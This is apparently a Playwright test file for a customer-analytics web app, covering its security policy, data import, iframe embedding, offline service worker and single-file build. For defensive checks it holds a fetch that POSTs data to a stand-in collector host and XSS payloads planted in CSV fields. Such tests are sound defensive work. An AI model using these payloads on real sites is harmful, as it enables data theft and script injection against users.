// Works anywhere: the strict Content-Security-Policy (and text from files never read as HTML),
// ?data= links, the page embedded in a sandboxed iframe of an intranet page, offline use through
// the service worker with a new deployment picked up, and the single-file build opened from disk.
// (Every case also fails on any policy violation: lib/monitor.cjs.)
'use strict';

const fs = require('fs');
const path = require('path');

const { test, expect } = require('../lib/fixtures.cjs');
const { startServer } = require('../../../scripts/static-server.cjs');
const { sri, writeServiceWorker } = require('../../../scripts/post-build.cjs');

const DATA = path.join(__dirname, '..', '..', 'data');
const TABLES = ['customers', 'accounts', 'credit_cards', 'loans', 'investments', 'transactions'];
const GOOD_FILES = TABLES.map((t) => path.join(DATA, 'good', `${t}.csv`));
const ROOT = path.join(__dirname, '..', '..', '..');
const SINGLE = path.resolve(process.env.C360_SINGLE || path.join(ROOT, 'dist-single', 'customer-360.html'));

const kpi = (scope, name) => scope.getByRole('group', { name, exact: true }).locator('.kpi-value');
const fileInput = (scope) => scope.getByLabel('Load your data');
const dataSource = (scope) => scope.getByTestId('data-source');

/** Exports the synthetic data of `query` as the ZIP "Export data" writes; returns its path. */
async function exportZip(page, open, tmpDir, query) {
  await open(query);
  await expect(kpi(page, 'Customers')).toHaveText(Number(query.customers).toLocaleString('en-IN'));
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export data' }).click()]);
  const zip = path.join(tmpDir, 'night.zip');
  await download.saveAs(zip);
  return zip;
}

/** Serves the extracts of an intranet on the app's origin: a ZIP and a folder of six CSV files. */
async function serveExtracts(page, origin, zip, { delayMs = 0 } = {}) {
  await page.route(`${origin}/extracts/night.zip`, async (route) => {
    if (delayMs) await new Promise((r) => setTimeout(r, delayMs));
    await route.fulfill({ body: fs.readFileSync(zip), contentType: 'application/zip' });
  });
  await page.route(`${origin}/extracts/six/*.csv`, (route) => {
    const name = path.basename(new URL(route.request().url()).pathname);
    const file = path.join(DATA, 'good', name);
    return fs.existsSync(file) ? route.fulfill({ path: file, contentType: 'text/csv' }) : route.fulfill({ status: 404, body: 'Not found' });
  });
}

test('a strict policy without inline script; a request to another site is refused by it', async ({ page, open, cspViolations, allowCspViolation, allowConsoleError }) => {
  await open();
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  for (const directive of ["default-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", "connect-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'", "style-src 'self'"]) {
    expect(policy).toContain(directive);
  }
  expect(policy).not.toContain('unsafe-inline');
  expect(await page.locator('script:not([src])').count()).toBe(0);

  allowCspViolation(/connect-src refused https:\/\/collector\.example/);
  allowConsoleError(/https:\/\/collector\.example\/steal/);
  const sent = await page.evaluate(() => fetch('https://collector.example/steal', { method: 'POST', body: 'customers' }).then(() => 'sent', (e) => `refused: ${e.message}`));
  expect(sent).toMatch(/^refused/);
  await expect.poll(() => cspViolations.map((v) => `${v.directive} ${v.blocked}`)).toContain('connect-src https://collector.example/steal');
});

test('text from imported files is shown as text, never read as HTML', async ({ page, open, tmpDir }) => {
  // Hostile cities and an id in the six files (the id in every file, so that they join).
  for (const f of GOOD_FILES) {
    let text = fs.readFileSync(f, 'utf8').replace(/^3,/m, '<b>3</b>,');
    if (f.endsWith('customers.csv')) {
      text = text.replace(/^(1,[^\n]*?),Chennai,/m, '$1,<script>window.__pwned=1</script>,').replace(/^(2,[^\n]*?),Kolkata,/m, '$1,<img src=x onerror=window.__pwned=2>,');
    }
    fs.writeFileSync(path.join(tmpDir, path.basename(f)), text);
  }
  expect(fs.readFileSync(path.join(tmpDir, 'customers.csv'), 'utf8')).toContain('<img src=x onerror=window.__pwned=2>');
  await open();
  await fileInput(page).setInputFiles(TABLES.map((t) => path.join(tmpDir, `${t}.csv`)));
  await expect(dataSource(page)).toContainText('6 files');

  // The customer table shows the id as written.
  const table = page.getByTestId('customer-table');
  await expect(table.getByRole('cell', { name: '<b>3</b>' }).or(table.getByText('<b>3</b>', { exact: true })).first()).toBeVisible();
  // The lookup shows each hostile customer, the markup as text.
  for (const [id, city] of [['<b>3</b>', null], ['1', '<script>window.__pwned=1</script>'], ['2', '<img src=x onerror=window.__pwned=2>']]) {
    await page.getByLabel('Customer ID').fill(id);
    await page.getByLabel('Customer ID').press('Enter');
    const card = page.getByTestId('lookup-result');
    await expect(card).toContainText(`Customer ${id}`);
    if (city) await expect(card).toContainText(city);
    await page.keyboard.press('Escape');
  }
  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  expect(await page.locator('img[src="x"], b:text-is("3")').count()).toBe(0);
  expect(await page.evaluate(() => [...document.scripts].every((s) => s.src))).toBe(true);
});

test('?data= loads a ZIP or a folder of six files from this site, with progress; another site or a missing file is refused, and the data stays', async ({ page, open, origin, tmpDir, allowHttpError }) => {
  const zip = await exportZip(page, open, tmpDir, { customers: 800, seed: 7 });
  await serveExtracts(page, origin, zip, { delayMs: 1500 });

  await open({ data: '/extracts/night.zip' });
  await expect(page.getByTestId('import-progress')).toContainText('Downloading night.zip');
  // Opened on a link, the page shows the import's state above the figures too.
  await expect(page.getByTestId('import-note')).toContainText('Loading your data: Downloading night.zip');
  await expect(dataSource(page)).toContainText('night.zip, 800 customers');
  await expect(kpi(page, 'Customers')).toHaveText('800');
  expect(new URL(page.url()).searchParams.get('data')).toBe('/extracts/night.zip');

  await open({ data: '/extracts/six/' });
  await expect(dataSource(page)).toContainText('6 files');

  await open({ data: 'https://elsewhere.example/night.zip', customers: 600 });
  const error = page.getByTestId('import-error');
  await expect(error).toContainText('is on another site (https://elsewhere.example)');
  await expect(error).toContainText(`loads extracts from its own site (${origin}) only`);
  await expect(page.getByTestId('import-note-error')).toContainText('Your data was not loaded: The extract at https://elsewhere.example/night.zip was not loaded');
  await expect(kpi(page, 'Customers')).toHaveText('600');

  allowHttpError(/404 .*missing\.zip/);
  await page.route(`${origin}/extracts/missing.zip`, (route) => route.fulfill({ status: 404, body: 'Not found' }));
  await open({ data: '/extracts/missing.zip', customers: 600 });
  await expect(error).toContainText('missing.zip could not be downloaded');
  await expect(error).toContainText('404');
  await expect(kpi(page, 'Customers')).toHaveText('600');
});

test('embedded in a sandboxed iframe of an 800-px intranet page: compact, loads ?data=, downloads', async ({ page, open, origin, baseURL, tmpDir }) => {
  const zip = await exportZip(page, open, tmpDir, { customers: 700, seed: 3 });
  await serveExtracts(page, origin, zip);
  const src = `${new URL(baseURL).pathname}?embed=1&data=${encodeURIComponent('/extracts/night.zip')}`;
  // The example page of docs/, with the frame pointed at this build and this extract.
  const example = fs.readFileSync(path.join(ROOT, 'docs', 'intranet-example.html'), 'utf8');
  const host = example.replace(/src="\/c360\/[^"]*"/, () => `src="${src.replace(/&/g, '&amp;')}"`).replace(' loading="lazy"', '');
  expect(host).not.toBe(example);
  await page.route(`${origin}/intranet.html`, (route) => route.fulfill({ contentType: 'text/html', body: host }));
  await page.setViewportSize({ width: 1000, height: 1000 });
  await page.goto(`${origin}/intranet.html`);
  const frame = page.frameLocator('iframe');
  await expect(dataSource(frame)).toContainText('night.zip, 700 customers', { timeout: 30000 });
  await expect(frame.locator('.topbar.compact')).toBeVisible();
  await expect(frame.locator('.brand, .privacy')).toHaveCount(0);
  await expect(frame.getByRole('heading', { level: 1, name: 'Customer 360 & Cross-Sell' })).toHaveCount(1);
  const inner = page.frames().find((f) => f.url().includes('embed=1'));
  expect(await inner.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(800);
  expect(new URL(inner.url()).searchParams.get('embed')).toBe('1');
  const [download] = await Promise.all([page.waitForEvent('download'), frame.getByRole('button', { name: /Download CSV/ }).first().click()]);
  expect(download.suggestedFilename()).toMatch(/^c360_customers_.*\.csv$/);
});

test.describe('offline', () => {
  test.use({ serviceWorkers: 'allow' });

  /** A second deployment made from the first: a changed stylesheet (new hashed name) and page. */
  function deployment2(v1, v2) {
    fs.cpSync(v1, v2, { recursive: true });
    const css = fs.readdirSync(v2).find((f) => /^main-[0-9a-f]{16}\.css$/.test(f));
    const text = `${fs.readFileSync(path.join(v2, css), 'utf8')}\n/* deployment 2 */\n`;
    const renamed = 'main-0000000000000002.css';
    fs.rmSync(path.join(v2, css));
    fs.writeFileSync(path.join(v2, renamed), text);
    let html = fs.readFileSync(path.join(v2, 'index.html'), 'utf8');
    html = html.replace(new RegExp(`<link rel="stylesheet" href="\\./${css}"[^>]*>`), `<link rel="stylesheet" href="./${renamed}" integrity="${sri(Buffer.from(text))}"/>`);
    html = html.replace('<meta charset="utf-8">', '<meta charset="utf-8">\n    <meta name="c360-build" content="2">');
    fs.writeFileSync(path.join(v2, 'index.html'), html);
    writeServiceWorker(v2);
    return { oldCss: css, newCss: renamed };
  }

  test('after one visit the app opens, analyses, imports and exports offline; a new deployment is offered and taken whole', async ({ page, context, tmpDir, waitForApp, allowHttpError, allowConsoleError, allowOrigin }) => {
    const root = path.join(tmpDir, 'web');
    const live = path.join(root, 'tools', 'c360');
    fs.cpSync(process.env.C360_DIST, live, { recursive: true });
    const v2 = path.join(tmpDir, 'v2');
    const { oldCss, newCss } = deployment2(live, v2);
    const server = await startServer({ root });
    try {
      const url = `${server.url}/tools/c360/`;
      allowOrigin(server.url); // this case serves the build itself (it deploys a second one)
      await page.goto(url);
      await waitForApp();
      await expect(kpi(page, 'Customers')).toHaveText('3,000');
      expect(await page.evaluate(() => navigator.serviceWorker.ready.then((r) => r.active.state))).toMatch(/activat/);

      // Offline: the reload comes from the service worker's cache.
      allowHttpError(/sw\.js|failed \(net::ERR_INTERNET_DISCONNECTED\)/);
      allowConsoleError(/ERR_INTERNET_DISCONNECTED|Failed to update a ServiceWorker|An unknown error occurred when fetching the script/);
      await context.setOffline(true);
      await page.reload();
      await waitForApp();
      await expect(kpi(page, 'Customers')).toHaveText('3,000');
      expect(await page.evaluate(() => Boolean(navigator.serviceWorker.controller))).toBe(true);
      await page.getByLabel('Number of customers').fill('1500');
      await page.getByLabel('Number of customers').press('Enter');
      await expect(kpi(page, 'Customers')).toHaveText('1,500');
      await fileInput(page).setInputFiles(GOOD_FILES);
      await expect(dataSource(page)).toContainText('6 files');
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export data' }).click()]);
      expect(download.suggestedFilename()).toBe('c360_data.zip');

      // A new deployment while the page is open: offered, then taken as a whole on request.
      await context.setOffline(false);
      fs.rmSync(live, { recursive: true });
      fs.cpSync(v2, live, { recursive: true });
      const before = server.requests.length;
      await page.reload();
      await waitForApp();
      expect(await page.locator('meta[name="c360-build"]').count()).toBe(0); // still the first version
      const bar = page.locator('#c360-update');
      await expect(bar).toContainText('A new version of Customer 360 is ready', { timeout: 20000 });
      await Promise.all([page.waitForEvent('framenavigated'), bar.getByRole('button', { name: 'Reload to update' }).click()]);
      await waitForApp();
      await expect(page.locator('meta[name="c360-build"]')).toHaveAttribute('content', '2');
      const sheets = await page.evaluate(() => [...document.styleSheets].map((s) => s.href && s.href.split('/').pop()).filter(Boolean));
      expect(sheets).toContain(newCss);
      expect(sheets).not.toContain(oldCss);
      expect(server.requests.slice(before).map((r) => r.path).filter((p) => p.endsWith(oldCss))).toEqual([]);
      expect(await page.evaluate(() => caches.keys().then((k) => k.filter((n) => n.startsWith('c360:')).length))).toBe(1);
    } finally {
      await server.close();
    }
  });
});

test('the single file opens from disk: dashboard, import and export, fitting on the page itself', async ({ page, waitForApp }) => {
  if (!fs.existsSync(SINGLE)) throw new Error(`${SINGLE} not found: run make dist-single (make e2e builds it)`);
  await page.goto(`file://${SINGLE}?customers=12000`);
  await waitForApp();
  await expect(kpi(page, 'Customers')).toHaveText('12,000', { timeout: 30000 });
  await expect(page.getByTestId('analysis-time')).toHaveAttribute('data-fit-workers', '0');
  await expect(page.getByTestId('import-error')).toHaveCount(0);
  await fileInput(page).setInputFiles(GOOD_FILES);
  await expect(dataSource(page)).toContainText('6 files');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /Download CSV/ }).first().click()]);
  expect(download.suggestedFilename()).toMatch(/\.csv$/);
});
